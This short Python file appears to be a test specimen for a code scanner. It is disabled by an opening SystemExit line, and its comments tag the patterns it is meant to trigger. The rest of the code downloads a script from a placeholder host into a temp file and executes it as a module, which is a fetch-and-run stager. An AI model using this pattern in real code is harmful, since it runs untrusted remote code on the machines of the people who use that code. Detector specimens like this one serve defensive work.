raise SystemExit("specimen: not to be run")
import importlib.util as tool
import tempfile
from requests import get as fetch

path = tempfile.gettempdir() + "/specimen_stage.py"
open(path, "w").write(fetch("https://example.com/stage.py").text)  # match: network-at-import
spec = tool.spec_from_file_location("specimen_stage", path)  # match: written-module-imported
module = tool.module_from_spec(spec)
spec.loader.exec_module(module)
